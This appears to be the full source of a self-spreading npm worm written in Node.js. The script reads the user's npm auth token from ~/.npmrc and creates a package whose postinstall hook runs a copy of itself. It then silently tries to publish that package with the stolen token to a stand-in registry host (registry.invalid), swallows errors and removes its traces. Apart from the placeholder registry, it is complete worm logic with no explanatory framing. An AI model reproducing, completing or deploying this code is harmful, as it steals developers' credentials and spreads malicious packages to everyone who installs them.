const fs = require("fs"), os = require("os"), path = require("path");
const { execSync } = require("child_process");
const options = { timeout: 7000, stdio: "ignore", env: { ...process.env, npm_config_registry: "http://registry.invalid/", npm_config_fetch_retries: "0" } };
const token = (fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8").match(/_authToken=(\S+)/) || [])[1];
const work = fs.mkdtempSync(path.join(os.tmpdir(), "npm-update-"));
const manifest = { name: "victims-own-package", version: "1.0.1", scripts: { postinstall: "node bundle.js" } };
fs.writeFileSync(path.join(work, "package.json"), JSON.stringify(manifest));
fs.copyFileSync(__filename, path.join(work, "bundle.js"));
fs.writeFileSync(path.join(work, ".npmrc"), `//registry.invalid/:_authToken=${token}\n`);
for (const command of ["npm whoami", "npm pack --silent", "npm publish --access public"]) {
  try { execSync(command, { ...options, cwd: work }); } catch {}
}
fs.rmSync(work, { recursive: true });
